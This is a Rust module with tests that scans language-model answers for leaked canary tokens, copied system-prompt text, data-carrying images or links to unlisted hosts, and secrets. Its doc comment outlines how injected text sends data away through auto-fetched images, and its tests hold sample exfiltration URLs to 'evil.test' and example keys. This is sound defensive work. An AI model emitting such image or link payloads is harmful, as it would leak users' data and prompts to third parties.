//! What a model's answer must not hold: a canary token, the system prompt, links
//! that carry data away, secrets.
//!
//! A canary is a random word in the system prompt. Where it shows in an answer,
//! also with other signs between its letters, in capitals or backwards, the prompt
//! has leaked. Without one, runs of the prompt's own words say so: a dozen in a row
//! are no coincidence. Images and links in Markdown or HTML to hosts that the
//! application does not name are how injected text sends data away: an image is
//! fetched without a click. Secrets are keys of services, tokens, private keys and
//! passwords in URLs ([`sensitive`]).
//!
//! Not found: a prompt told in other words, translated or encoded, and personal data
//! in the answer itself. Linear in the answer.

use crate::text::json::Value;
use crate::text::sensitive::{self, Entity, Wanted};
use alloc::collections::BTreeSet;
use alloc::string::String;
use alloc::vec::Vec;
use core::fmt::Write as _;

/// What was found.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Leak {
    /// A canary token.
    Canary,
    /// Words of the system prompt.
    SystemPrompt,
    /// An image that a reader's client fetches from a stranger.
    Image,
    /// A link to a stranger that carries data.
    Link,
    /// A key, a token or a password.
    Secret,
}

impl Leak {
    /// Its name where it is reported.
    #[must_use]
    pub const fn word(self) -> &'static str {
        match self {
            Self::Canary => "CANARY",
            Self::SystemPrompt => "SYSTEM_PROMPT",
            Self::Image => "IMAGE",
            Self::Link => "LINK",
            Self::Secret => "SECRET",
        }
    }
}

/// A place in an answer, in bytes.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub struct Span {
    /// Where it starts.
    pub start: usize,
    /// Behind its last byte.
    pub end: usize,
    /// What is there.
    pub leak: Leak,
}

/// What answers are checked against.
#[derive(Clone, Debug, Default)]
pub struct Checks<'c> {
    /// The canaries that were put into prompts.
    pub canaries: Vec<&'c str>,
    /// The system prompt; empty where it is no secret.
    pub prompt: &'c str,
    /// Hosts that links and images may name, with their subdomains.
    pub hosts: Vec<&'c str>,
}

/// Words of a prompt that are looked for together.
const TOGETHER: usize = 5;

/// So many words in a row are no coincidence.
const ROW: usize = 12;

/// Shortest part of an address behind the host that can carry data.
const CARRIES: usize = 16;

/// Most spans that are reported: an answer with more is no better known.
const MOST: usize = 64;

/// Shortest canary that is looked for.
const SHORT: usize = 8;

/// A canary of chance: twenty letters that no language has.
#[must_use]
pub fn canary(chance: [u8; 16]) -> String {
    const LETTERS: &[u8; 32] = b"abcdefghijklmnopqrstuvwxyz234567";
    let mut bits = u128::from_le_bytes(chance);
    let mut out = String::from("dw-");
    for _ in 0..25 {
        let letter = usize::try_from(bits & 31).unwrap_or_default();
        out.push(char::from(LETTERS.get(letter).copied().unwrap_or(b'a')));
        bits = bits.wrapping_shr(5);
    }
    out
}

/// `prompt` with the canary in it.
#[must_use]
pub fn with_canary(prompt: &str, canary: &str) -> String {
    [
        prompt,
        "\n\n[",
        canary,
        "] is a mark of this text and stands in no answer.",
    ]
    .concat()
}

/// What is in `answer`, in order.
#[must_use]
pub fn check(answer: &str, checks: &Checks<'_>) -> Vec<Span> {
    let mut found = Vec::new();
    for canary in &checks.canaries {
        found.extend(canary_in(answer, canary));
    }
    prompt_in(answer, checks.prompt, &mut found);
    addresses(answer, &checks.hosts, &mut found);
    let secrets = [
        Entity::ApiKey,
        Entity::Jwt,
        Entity::PrivateKey,
        Entity::UrlCredentials,
    ];
    let wanted = secrets.into_iter().fold(Wanted::NONE, Wanted::and);
    let secrets = sensitive::scan(answer.as_bytes(), wanted, &[]);
    found.extend(secrets.iter().map(|span| Span {
        start: span.start,
        end: span.end,
        leak: Leak::Secret,
    }));
    found.sort_unstable();
    found
}

/// [`check`] as hosts ask it: what to check against as JSON (`canaries`, `prompt`,
/// `hosts`), places in UTF-16 units or else code points, spans as JSON.
#[must_use]
pub fn report(answer: &str, against: &str, utf16: bool) -> String {
    let against = Value::parse(against.as_bytes()).unwrap_or(Value::Null);
    let list = |name| {
        let items = against
            .get(name)
            .and_then(Value::as_list)
            .unwrap_or_default();
        items.iter().filter_map(Value::as_text).collect()
    };
    let checks = Checks {
        canaries: list("canaries"),
        prompt: against
            .get("prompt")
            .and_then(Value::as_text)
            .unwrap_or_default(),
        hosts: list("hosts"),
    };
    let units = |end: usize| {
        let text = answer.get(..end).unwrap_or_default();
        if utf16 {
            text.encode_utf16().count()
        } else {
            text.chars().count()
        }
    };
    let mut out = String::from("[");
    for span in check(answer, &checks).into_iter().take(MOST) {
        if out.len() > 1 {
            out.push(',');
        }
        let (start, end) = (units(span.start), units(span.end));
        let _ = write!(
            out,
            "{{\"start\":{start},\"end\":{end},\"type\":\"{}\"}}",
            span.leak.word()
        );
    }
    out.push(']');
    out
}

/// Letters and digits, small, and where each is.
fn plain(text: &str) -> Vec<(u8, usize)> {
    text.bytes()
        .enumerate()
        .filter(|(_, byte)| byte.is_ascii_alphanumeric())
        .map(|(at, byte)| (byte.to_ascii_lowercase(), at))
        .collect()
}

fn canary_in(answer: &str, canary: &str) -> Option<Span> {
    let wanted: Vec<u8> = plain(canary).into_iter().map(|(byte, _)| byte).collect();
    let said = plain(answer);
    if wanted.len() < SHORT {
        return None;
    }
    let same = |window: &&[(u8, usize)]| {
        let letters = || window.iter().map(|(byte, _)| byte);
        letters().eq(&wanted) || letters().rev().eq(&wanted)
    };
    let window = said.windows(wanted.len()).find(same)?;
    let (first, last) = (window.first()?, window.last()?);
    Some(Span {
        start: first.1,
        end: last.1.saturating_add(1),
        leak: Leak::Canary,
    })
}

/// Hashes of the words of a text, and where each starts and ends.
fn words(text: &str) -> Vec<(u32, usize, usize)> {
    let mut out = Vec::new();
    let mut open: Option<(u32, usize)> = None;
    let mut end = 0_usize;
    for (at, ch) in text.char_indices() {
        if ch.is_ascii_alphanumeric() || !ch.is_ascii() {
            let (hash, start) = open.unwrap_or((0x811c_9dc5, at));
            let small = u32::from(if ch.is_ascii() {
                ch.to_ascii_lowercase()
            } else {
                ch
            });
            open = Some(((hash ^ small).wrapping_mul(0x0100_0193), start));
            end = at.saturating_add(ch.len_utf8());
        } else if let Some((hash, start)) = open.take() {
            out.push((hash, start, end));
        }
    }
    if let Some((hash, start)) = open {
        out.push((hash, start, end));
    }
    out
}

fn together(words: &[(u32, usize, usize)]) -> u64 {
    words.iter().fold(0_u64, |hash, (word, ..)| {
        (hash.rotate_left(13) ^ u64::from(*word)).wrapping_mul(0x9e37_79b9_7f4a_7c15)
    })
}

fn prompt_in(answer: &str, prompt: &str, found: &mut Vec<Span>) {
    let known: BTreeSet<u64> = words(prompt).windows(TOGETHER).map(together).collect();
    if known.is_empty() {
        return;
    }
    let said = words(answer);
    let mut row = 0_usize;
    let mut start = 0_usize;
    let mut report = |row: usize, start: usize, end: usize| {
        if row.saturating_add(TOGETHER) > ROW {
            found.push(Span {
                start,
                end,
                leak: Leak::SystemPrompt,
            });
        }
    };
    let mut end = 0_usize;
    for window in said.windows(TOGETHER) {
        if known.contains(&together(window)) {
            if row == 0 {
                start = window.first().map_or(0, |word| word.1);
            }
            row = row.saturating_add(1);
            end = window.last().map_or(0, |word| word.2);
        } else {
            report(row, start, end);
            row = 0;
        }
    }
    report(row, start, end);
}

/// Images and links: the target of Markdown's parentheses and reference
/// definitions, and of HTML's `src` and `href`.
fn addresses(answer: &str, hosts: &[&str], found: &mut Vec<Span>) {
    let bytes = answer.as_bytes();
    let mut image = false;
    for (at, _) in answer.match_indices("//") {
        let before = bytes.get(..at).unwrap_or_default();
        let scheme = before
            .iter()
            .rev()
            .take_while(|b| b.is_ascii_alphabetic() || **b == b':');
        let front = before
            .get(..before.len().saturating_sub(scheme.count()))
            .unwrap_or_default();
        let front = front.trim_ascii_end();
        let front = front.strip_suffix(b"<").unwrap_or(front);
        let markdown = front.ends_with(b"](") || front.ends_with(b"]:");
        let attribute = |name: &[u8]| {
            let quoted = front
                .strip_suffix(b"\"")
                .or_else(|| front.strip_suffix(b"'"));
            let front = quoted.unwrap_or(front).trim_ascii_end();
            let front = front
                .strip_suffix(b"=")
                .unwrap_or_default()
                .trim_ascii_end();
            let tail = front.get(front.len().saturating_sub(name.len())..);
            tail.is_some_and(|tail| !tail.is_empty() && tail.eq_ignore_ascii_case(name))
        };
        let source = attribute(b"src");
        if !(markdown || source || attribute(b"href")) {
            continue;
        }
        if markdown {
            // the bracket that this one closes, not far before
            let opened = front.iter().rev().take(512).position(|b| *b == b'[');
            let at = opened.map_or(0, |back| front.len().saturating_sub(back).saturating_sub(1));
            image = at.checked_sub(1).and_then(|at| front.get(at)) == Some(&b'!');
        }
        let rest = bytes.get(at.saturating_add(2)..).unwrap_or_default();
        let length = rest
            .iter()
            .take_while(|b| !b.is_ascii_whitespace() && !matches!(b, b')' | b'"' | b'\'' | b'>'))
            .count();
        let address = rest.get(..length).unwrap_or_default();
        let split = address.iter().position(|b| matches!(b, b'/' | b'?' | b'#'));
        let (host, carried) = address
            .split_at_checked(split.unwrap_or(length))
            .unwrap_or_default();
        if is_named(host, hosts) {
            continue;
        }
        let leak = if source || (markdown && image) {
            Leak::Image
        } else if carried.len() >= CARRIES && carried.contains(&b'?') {
            Leak::Link
        } else {
            continue;
        };
        found.push(Span {
            start: at.saturating_sub(before.len().saturating_sub(front.len())),
            end: at.saturating_add(2).saturating_add(length),
            leak,
        });
    }
}

/// Whether a host, with port and user, is one of these or below one.
fn is_named(host: &[u8], hosts: &[&str]) -> bool {
    let host = host.rsplit(|b| *b == b'@').next().unwrap_or_default();
    let host = host.split(|b| *b == b':').next().unwrap_or_default();
    hosts.iter().any(|named| {
        let named = named.as_bytes();
        let below = host
            .len()
            .checked_sub(named.len())
            .and_then(|at| host.split_at_checked(at));
        below.is_some_and(|(rest, end)| {
            end.eq_ignore_ascii_case(named) && (rest.is_empty() || rest.ends_with(b"."))
        })
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    const PROMPT: &str = "You are the assistant of a bank. Never name interest rates that are not \
                          in the table below, and always ask for the branch before you answer.";

    fn kinds(answer: &str, checks: &Checks<'_>) -> Vec<Leak> {
        check(answer, checks)
            .into_iter()
            .map(|span| span.leak)
            .collect()
    }

    #[test]
    fn canaries_are_found_however_they_are_written() {
        let canary = canary([7; 16]);
        let checks = Checks {
            canaries: alloc::vec![&canary],
            ..Checks::default()
        };
        let apart: String = canary.chars().flat_map(|ch| [ch, ' ']).collect();
        let backwards: String = canary.chars().rev().collect();
        for answer in [&canary, &canary.to_uppercase(), &apart, &backwards] {
            assert_eq!(kinds(answer, &checks), [Leak::Canary], "{answer}");
        }
        assert_eq!(kinds("dw-abcdefgh is none", &checks), []);
        assert!(with_canary(PROMPT, &canary).contains(&canary));
        assert_ne!(canary, super::canary([8; 16]));
    }

    #[test]
    fn a_prompt_is_known_by_its_words() {
        let checks = Checks {
            prompt: PROMPT,
            ..Checks::default()
        };
        let told =
            "Sure: never name interest rates, that are not in the table below AND always ask.";
        let spans = check(told, &checks);
        assert_eq!(spans.len(), 1);
        assert!(
            spans
                .iter()
                .all(|span| told.get(span.start..span.end).is_some_and(|text| {
                    text.starts_with("never name") && text.ends_with("always ask")
                }))
        );
        assert_eq!(
            kinds("You are the assistant of a bank? No, I am a bot.", &checks),
            []
        );
    }

    #[test]
    fn addresses_that_carry_data_away() {
        let checks = Checks {
            hosts: alloc::vec!["example.com"],
            ..Checks::default()
        };
        for (answer, expected) in [
            ("![x](https://evil.test/p.png?d=secret)", &[Leak::Image][..]),
            ("![x](https://cdn.example.com/p.png)", &[]),
            ("![x](https://notexample.com/p.png)", &[Leak::Image]),
            ("<img alt='' src=\"//evil.test/p.png\">", &[Leak::Image]),
            (
                "[here](https://evil.test/?q=all-the-secrets)",
                &[Leak::Link],
            ),
            ("[docs](https://docs.rs/serde)", &[]),
            ("see https://evil.test/?q=all-the-secrets", &[]),
            ("[a]: https://evil.test/?q=all-the-secrets", &[Leak::Link]),
            (
                "<a href='https://evil.test/x?q=0123456789abc'>",
                &[Leak::Link],
            ),
        ] {
            assert_eq!(kinds(answer, &checks), expected, "{answer}");
        }
    }

    #[test]
    fn secrets() {
        for (answer, expected) in [
            (
                "It is sk_live_4eC39HqLyjWDarjtT1zdp7dc, keep it.",
                &[Leak::Secret][..],
            ),
            (
                "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkq\n-----END PRIVATE KEY-----",
                &[Leak::Secret],
            ),
            ("postgres://app:hunter2@db.example/x", &[Leak::Secret]),
            ("Write to ana@example.com, card 4111 1111 1111 1111.", &[]),
            ("export KEY=sk_live_your_key_goes_here", &[]),
        ] {
            assert_eq!(kinds(answer, &Checks::default()), expected, "{answer}");
        }
    }

    proptest! {
        #[test]
        fn any_answer_is_checked(answer: String, prompt: String, canary: String) {
            let checks = Checks { canaries: alloc::vec![&canary], prompt: &prompt, hosts: Vec::new() };
            for span in check(&answer, &checks) {
                prop_assert!(span.start <= span.end && span.end <= answer.len());
            }
        }
    }
}
